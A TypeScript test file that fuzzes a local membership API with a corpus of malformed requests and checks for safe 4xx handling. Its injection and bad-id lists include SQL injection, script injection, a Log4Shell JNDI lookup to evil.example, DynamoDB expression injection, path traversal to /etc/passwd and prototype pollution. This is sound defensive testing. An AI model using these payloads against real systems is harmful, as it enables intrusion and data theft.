import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import type { LocalApi } from '../../infra/local/register.ts';
import { routeList } from '../../shared/contract/routes.ts';
import type { RouteSpec } from '../../shared/contract/route.ts';
import { createDocumentClient, tableName } from '../../shared/store/dynamo.ts';
import { startTestApi } from '../support/local-api.ts';
import { aReceipt, aRegistration } from '../support/fixtures.ts';

/**
 * A corpus of malformed requests, generated from the route table: wrong types, huge bodies, unknown
 * fields, injection strings, invalid UTF-8, wrong content types, malformed JSON and path traversal in
 * ids. Every one must be answered 4xx with problem+json, none 5xx, and none may store anything.
 */
let api: LocalApi;
const N = '1234567897'; // a valid customer number that is not in this file's table

/** A key that carries personal data: an unknown field is named only when it looks like a field name. */
const PERSONAL_KEY = 'matti.meikalainen@example.fi';
const VALID_BODIES: Record<string, Record<string, unknown>> = {
  'POST /members': aRegistration(),
  'PATCH /members/{customerNumber}': { surname: 'Virtanen' },
  'PUT /members/{customerNumber}/card': { type: 'CASH_CARD' },
  'PUT /members/{customerNumber}/consents/{purpose}': {
    granted: true,
    source: 'web',
    noticeVersion: '2026.1',
  },
  'POST /campaigns': { name: 'Kevät', channel: 'email' },
  'POST /purchases': aReceipt(N),
  'POST /purchases/batch': { receipts: [aReceipt(N)] },
  'PUT /members/{customerNumber}/restriction': { restricted: true },
};
const WRONG_TYPES = [42, true, null, ['a'], { nested: 'x' }];
const INJECTIONS = [
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  'attribute_exists(pk) OR #pk = :pk',
  '../../../../etc/passwd',
  '\u0000\u001b[31m',
];
const BAD_IDS = [
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '1234567890', // fails the check digit
  '12345678971234567897',
  '123456789%00',
  '１２３４５６７８９７', // full-width digits
  'CAMPAIGN%23C-0123',
];

interface Case {
  name: string;
  route: RouteSpec;
  path: string;
  body?: string | Buffer;
  contentType?: string;
  /** The problem type the case must get, where only one is right. */
  problem?: string;
}

const concrete = (route: RouteSpec, id = N) =>
  route.path
    .replace('{customerNumber}', id)
    .replace('{campaignId}', id === N ? 'C-0123456789ab' : id)
    .replace('{cardOrCustomerNumber}', id)
    .replace('{purpose}', 'marketing.email');

function corpus(): Case[] {
  const cases: Case[] = [];
  for (const route of routeList) {
    const key = `${route.method} ${route.path}`;
    const valid = VALID_BODIES[key];
    if (valid) {
      const path = concrete(route);
      for (const field of Object.keys(valid)) {
        for (const wrong of WRONG_TYPES) {
          cases.push({
            name: `${key}: ${field} as ${JSON.stringify(wrong)}`,
            route,
            path,
            body: JSON.stringify({ ...valid, [field]: wrong }),
          });
        }
        const sample = valid[field];
        if (typeof sample === 'string') {
          for (const injection of INJECTIONS.slice(0, 3)) {
            cases.push({
              name: `${key}: ${field} injected`,
              route,
              path,
              body: JSON.stringify({ ...valid, [field]: injection }),
            });
          }
        }
      }
      cases.push({
        name: `${key}: unknown field`,
        route,
        path,
        body: JSON.stringify({ ...valid, isAdmin: true }),
      });
      cases.push({
        name: `${key}: unknown field named by personal data`,
        route,
        path,
        body: JSON.stringify({ ...valid, [PERSONAL_KEY]: true }),
      });
      cases.push({
        name: `${key}: __proto__`,
        route,
        path,
        body: `{"__proto__":{"polluted":true},${JSON.stringify(valid).slice(1)}`,
      });
      cases.push({
        name: `${key}: huge body`,
        route,
        path,
        body: JSON.stringify({ ...valid, padding: 'x'.repeat(300_000) }),
      });
      const [field, sample] = Object.entries(valid).find(([, v]) => typeof v === 'string') ?? ['name', ''];
      const [before, after] = JSON.stringify({ ...valid, [field]: `${String(sample)}\u0000` }).split(
        '\\u0000',
      );
      cases.push({
        name: `${key}: invalid UTF-8 in ${field}`,
        route,
        path,
        body: Buffer.concat([Buffer.from(before!), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(after!)]),
        problem: 'malformed-body',
      });
      cases.push({
        name: `${key}: text/plain`,
        route,
        path,
        body: JSON.stringify(valid),
        contentType: 'text/plain',
      });
      cases.push({ name: `${key}: XML`, route, path, body: '<member/>', contentType: 'application/xml' });
      for (const json of ['{', '[]', '"text"', 'null', '{"a":1}}']) {
        cases.push({ name: `${key}: malformed JSON ${json}`, route, path, body: json });
      }
    }
    if (/\{(customerNumber|campaignId|cardOrCustomerNumber)\}/.test(route.path)) {
      for (const id of BAD_IDS)
        cases.push({
          name: `${key}: id ${id}`,
          route,
          path: concrete(route, id),
          ...(valid ? { body: JSON.stringify(valid) } : {}),
        });
    }
    if (route.query) {
      for (const query of [
        '?unknown=1',
        `?${encodeURIComponent(PERSONAL_KEY)}=1`,
        `?from=${encodeURIComponent(INJECTIONS[0]!)}`,
        '?lang=xx&format=pdf&reason=<b>',
      ]) {
        cases.push({ name: `${key}: query ${query}`, route, path: concrete(route) + query });
      }
    }
  }
  return cases;
}

/** A token of a role the route allows, so that what is judged is the input and not the role. */
async function tokenFor(route: RouteSpec): Promise<string | undefined> {
  if (route.roles === 'public') return undefined;
  const role = route.roles[0]!;
  return api.token(role === 'member' ? { role, customerNumber: N } : { role });
}

const itemCount = async () =>
  (await createDocumentClient().send(new ScanCommand({ TableName: tableName(), Select: 'COUNT' }))).Count ??
  0;

let before = 0;
beforeAll(async () => {
  api = await startTestApi();
  before = await itemCount();
});
afterAll(() => api.stop());

describe('a corpus of malformed requests', () => {
  const cases = corpus();

  it('has at least 200 cases over every kind of fault', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s: 4xx problem+json', async (_name, c) => {
    const token = await tokenFor(c.route);
    const response = await fetch(api.url + c.path, {
      method: c.route.method,
      headers: {
        ...(token ? { authorization: `Bearer ${token}` } : {}),
        ...(c.body !== undefined ? { 'content-type': c.contentType ?? 'application/json' } : {}),
        ...(c.route.path === '/members/{customerNumber}' && c.route.method === 'PATCH'
          ? { 'if-match': '"1"' }
          : {}),
      },
      ...(c.body !== undefined ? { body: c.body } : {}),
    });
    const text = await response.text();
    expect(response.status, text).toBeGreaterThanOrEqual(400);
    expect(response.status, text).toBeLessThan(500);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    if (c.problem) expect(JSON.parse(text).type).toBe(`https://moymore.fi/problems/${c.problem}`);
    expect(text).not.toContain('x'.repeat(50)); // a value is never echoed
    expect(text).not.toContain(PERSONAL_KEY); // nor a key that is not a field name
    expect(text).not.toMatch(/at \w+ \(|node_modules|test-[0-9a-f]{8}/); // no stack trace, no table name
  });

  it('stored nothing', async () => {
    expect(await itemCount()).toBe(before);
  });
});
